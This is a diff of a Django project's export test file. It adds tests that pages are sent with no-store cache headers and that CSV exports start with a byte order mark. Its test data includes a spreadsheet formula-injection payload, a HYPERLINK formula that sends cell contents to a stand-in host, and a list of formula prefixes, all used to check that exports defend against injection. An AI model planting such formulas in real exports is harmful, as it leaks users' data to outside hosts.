@@ -16,14 +16,15 @@ from django.http import HttpResponse
 from django.test import RequestFactory
 from openpyxl import load_workbook
 
+from liaison.accounts.roles import Role
 from liaison.core import export
 from liaison.core.export import (
     csv_response,
     export_format,
-    no_store,
     table_response,
     xlsx_response,
 )
+from liaison.core.middleware import PrivateResponsesMiddleware
 
 PAYLOAD = '=HYPERLINK("http://x/?"&A1)'
 DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", PAYLOAD]
@@ -31,7 +32,7 @@ HEADER = ["name", "value"]
 
 
 def csv_cells(response: HttpResponse) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
 
 
 def xlsx_cells(response: HttpResponse) -> list[list[Any]]:
@@ -190,14 +191,22 @@ def test_export_format_reads_the_query_string():
     assert export_format(factory.get("/")) is None
 
 
-def test_no_store_marks_a_page():
-    @no_store
-    def page(request: Any) -> HttpResponse:
-        return HttpResponse("Ana Quispe, passport X123")
+@pytest.mark.django_db
+def test_every_page_is_sent_no_store_unless_it_says_how_to_cache(client, users):
+    """The middleware: pages not written yet are covered too; a response with its own rule
+    (a feed, a static file) keeps it."""
+    client.force_login(users[Role.PROGRAM_MANAGER])
+    for url in ("/", "/people/", "/visits/", "/vetting/", "/api/v1/people/"):
+        response = client.get(url)
+        assert "no-store" in response["Cache-Control"], url
+    middleware = PrivateResponsesMiddleware(lambda request: _cached())
+    assert middleware(RequestFactory().get("/"))["Cache-Control"] == "max-age=60"
 
-    response = page(RequestFactory().get("/"))
-    assert "no-store" in response["Cache-Control"]
-    assert page.__name__ == "page"
+
+def _cached() -> HttpResponse:
+    response = HttpResponse("feed")
+    response["Cache-Control"] = "max-age=60"
+    return response
 
 
 # --- nothing else writes a spreadsheet ---------------------------------------------------------
@@ -306,3 +315,9 @@ def test_the_bypass_check_lets_reading_through():
         "MAIN = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'\n"
     )
     assert export_bypasses(source) == []
+
+
+def test_a_csv_starts_with_the_byte_order_mark_excel_needs_for_accents():
+    response = export.csv_response("people.csv", ["family_name"], [["Peña"]], list)
+    assert response.content.startswith("\ufeff".encode())
+    assert response.content.decode("utf-8-sig").splitlines()[1] == "Peña"
